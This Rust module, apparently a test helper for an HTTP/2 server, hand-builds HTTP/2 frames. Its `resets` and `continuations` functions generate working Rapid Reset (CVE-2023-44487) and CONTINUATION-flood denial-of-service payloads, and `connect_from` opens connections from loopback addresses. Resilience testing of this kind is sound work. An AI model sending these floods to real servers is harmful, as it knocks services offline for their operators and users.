//! Clients of HTTP/2 that no library would be: their frames are written by hand, and some flood.

use std::io;
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::time::Duration;

use socket2::{Domain, Socket, Type};

/// What begins a connection: the preface, and settings that set nothing (RFC 9113, section 3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// A request's head: `GET http a/`.
pub const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];

/// Type of a frame with a piece of a body.
pub const DATA: u8 = 0;
/// Type of the first frame of a head.
pub const HEADERS: u8 = 1;
/// Type of a frame that nobody needs any more.
pub const PRIORITY: u8 = 2;
/// Type of the frame that breaks a request off.
pub const RST_STREAM: u8 = 3;
/// Type of a frame that is answered with one of its kind.
pub const SETTINGS: u8 = 4;
/// Type of another such.
pub const PING: u8 = 6;
/// Type of the last frame of a connection.
pub const GOAWAY: u8 = 7;
/// Type of the further frames of a head.
pub const CONTINUATION: u8 = 9;

/// Flag: no more frames of this side of the stream.
pub const END_STREAM: u8 = 1;
/// Flag: the head is whole.
pub const END_HEADERS: u8 = 4;

/// RFC 9113, section 4.1.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// So many requests that are reset as soon as they are opened (CVE-2023-44487), after the preface.
pub fn resets(count: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let streams = (0..count).map(|number| 2 * number + 1);
    let opened = |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
    streams.flat_map(|stream| [opened(stream), frame(RST_STREAM, 0, stream, &CANCEL)].concat()).collect()
}

/// A head that never ends, in so many frames (VU#421644), after the preface.
pub fn continuations(count: u32) -> Vec<u8> {
    // A new header `x` with 262 bytes, which nobody keeps.
    let field: Vec<u8> = [&[0x00, 0x01, b'x', 0x7f, 0x87, 0x01][..], &[b'y'; 262]].concat();
    let more = frame(CONTINUATION, 0, 1, &field).repeat(count as usize);
    [frame(HEADERS, END_STREAM, 1, &HEAD[..3]), more].concat()
}

/// A connection of a client at `address`; any of 127.0.0.0/8 is there to be had.
///
/// # Errors
/// When it does not come about within `patience`.
pub fn connect_from(address: IpAddr, to: SocketAddr, patience: Duration) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(to), Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((address, 0)).into())?;
    socket.connect_timeout(&to.into(), patience)?;
    Ok(socket.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_flags_and_stream() {
        assert_eq!(frame(3, 0, 5, &[0, 0, 0, 8]), [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }
}
